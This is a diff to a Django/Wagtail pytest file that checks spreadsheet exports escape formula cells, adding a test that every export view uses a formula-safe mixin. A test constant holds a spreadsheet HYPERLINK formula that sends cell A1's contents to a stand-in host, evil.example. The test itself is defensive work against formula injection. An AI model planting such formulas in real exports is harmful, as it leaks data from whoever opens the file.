@@ -7,7 +7,10 @@ import io
 import openpyxl
 import pytest
 from django.urls import reverse
+from wagtail.admin.views.mixins import SpreadsheetExportMixin
+from wagtail.admin.viewsets import viewsets
 
+from peerpath.spreadsheets import FormulaSafeExportMixin
 from tests.certificates.factories import CertificateFactory
 from tests.factories import UserFactory
 from training import progress
@@ -16,6 +19,7 @@ from .factories import LogEntryFactory
 
 pytestmark = pytest.mark.django_db
 
+PEERPATH_APPS = ("peerpath", "accounts", "training", "certificates", "workshops", "home")
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
 AS_TEXT = "'" + FORMULA
 
@@ -79,3 +83,32 @@ def test_progress_report_xlsx_keeps_a_formula_name_as_text(
     client.force_login(staff_user)
     response = client.get(reverse("certificates_admin:progress"), {"export": "xlsx"})
     assert_text(xlsx_column(response, "Learner"))
+
+
+def subclasses(cls):
+    for subclass in cls.__subclasses__():
+        yield subclass
+        yield from subclasses(subclass)
+
+
+def test_every_peerpath_export_escapes_its_cells(client, staff_user):
+    """A new export (a report view, or a viewset with `list_export`) must mix in
+    `FormulaSafeExportMixin`, or `ValuesExportMixin` which includes it."""
+    client.force_login(staff_user)
+    client.get(reverse("wagtailadmin_home"))  # loads every app's admin views and viewsets
+    views = [
+        view
+        for view in subclasses(SpreadsheetExportMixin)
+        if view.__module__.startswith(PEERPATH_APPS) and view.list_export
+    ]
+    views += [
+        viewset.index_view_class
+        for viewset in viewsets.viewsets
+        # Unset, a viewset's list_export is a placeholder object rather than a list.
+        if isinstance(getattr(viewset, "list_export", None), list | tuple)
+        and viewset.list_export
+        and getattr(viewset, "model", None) is not None
+        and viewset.model._meta.app_label in PEERPATH_APPS
+    ]
+    assert views
+    assert [view for view in views if not issubclass(view, FormulaSafeExportMixin)] == []
